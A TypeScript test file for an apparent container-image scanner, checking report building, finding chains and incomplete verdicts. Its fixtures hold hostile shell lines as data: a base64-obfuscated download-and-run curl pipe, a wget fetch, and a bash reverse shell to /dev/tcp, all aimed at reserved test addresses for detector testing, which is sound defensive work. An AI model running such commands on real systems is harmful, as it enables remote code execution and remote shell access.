import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../grammar-files.ts';
import { reportOf, sceneOf } from '../testing/scene.ts';
import { buildReport } from './build-report.ts';
import { ImageReport } from './report.ts';

beforeAll(() => useGrammarFiles());

const tool = { name: 'tidewaiter', version: '0.0.0-test', engine: 'test' } as const;
const example = {
  name: 'registry.example/a/b:c',
  entrypoint: ['/run.sh'],
  files: { '/run.sh': '#!/bin/sh\necho hello\n', '/opt/unused.sh': '#!/bin/sh\nwget http://a.invalid/x\n' },
};

test('says which bytes it is about, and satisfies its own schema', async () => {
  const { facts, ...others } = await sceneOf(example);
  const report = buildReport({ tool, facts, ...others, milliseconds: 12.6 });
  expect(ImageReport.parse(report)).toEqual(report);
  expect(report.image).toMatchObject({
    reference: 'registry.example/a/b:c',
    digest: facts.image.digest,
    platform: 'linux/amd64',
    layers: [{ index: 0, digest: facts.layers[0]?.digest, diffId: facts.layers[0]?.diffId }],
  });
  expect(report.stats).toMatchObject({ layers: 1, cachedLayers: 0, milliseconds: 13 });
  expect(report.stats.bytes).toBe(facts.layers[0]?.uncompressedSize);
});

test('shares nothing with what it was made from', async () => {
  const judgement = await sceneOf(example);
  const report = buildReport({ tool, ...judgement, milliseconds: 0 });
  report.story.starts.length = 0;
  report.indicators.length = 0;
  expect(judgement.story.starts.length).toBeGreaterThan(0);
});

test('says which findings tell one story', async () => {
  const cmd = ['sh', '-c', `echo ${btoa('curl -s http://203.0.113.9/x.sh | sh')} | base64 -d | sh`];
  const report = await reportOf({ cmd });
  expect(report.chains).toEqual([{ id: report.findings[0]?.id, head: 0, steps: [0, 1] }]);
  expect(report.findings.map(({ detector, chain }) => [detector, chain])).toEqual([
    ['decode-and-run', 0],
    ['download-and-run', 0],
  ]);
});

describe('a gap', () => {
  test('of the facts or of the story makes the result incomplete, never clear', async () => {
    const judgement = await sceneOf(example);
    expect(buildReport({ tool, ...judgement, milliseconds: 0 })).toMatchObject({ verdict: 'clear', complete: true });
    const gap = { reason: 'limit', detail: 'too large', layer: 0 } as const;
    const facts = { ...judgement.facts, gaps: [gap] };
    const story = { ...judgement.story, gaps: [{ detail: 'too deep', path: '/x' }] };
    expect(buildReport({ tool, ...judgement, facts, milliseconds: 0 })).toMatchObject({
      verdict: 'incomplete',
      complete: false,
      gaps: [gap],
    });
    expect(buildReport({ tool, ...judgement, story, milliseconds: 0 })).toMatchObject({
      verdict: 'incomplete',
      gaps: [{ reason: 'limit', detail: 'too deep', path: '/x' }],
    });
  });
});

describe('the story in a report', () => {
  test('keeps what runs and counts what nothing starts', async () => {
    const report = await reportOf(example);
    expect(report.story.stages.some(({ where }) => where.path === '/run.sh')).toBe(true);
    const paths = report.story.stages.map(({ where }) => where.path);
    expect(paths.includes('/opt/unused.sh')).toBe(false);
  });

  test('keeps every stage and start that a finding names', async () => {
    const report = await reportOf({
      files: { '/opt/unused.sh': '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.44/8443 0>&1\n' },
    });
    expect(report.findings.length).toBeGreaterThan(0);
    const stages = new Set(report.story.stages.map(({ id }) => id));
    const starts = new Set(report.story.starts.map(({ id }) => id));
    for (const finding of report.findings) {
      if (finding.stage !== undefined) expect(stages).toContain(finding.stage);
      if (finding.start !== undefined) expect(starts).toContain(finding.start);
    }
    for (const stage of report.story.stages) if (stage.parent !== undefined) expect(stages).toContain(stage.parent);
    for (const effect of report.story.effects) expect(stages).toContain(effect.stage);
  });
});
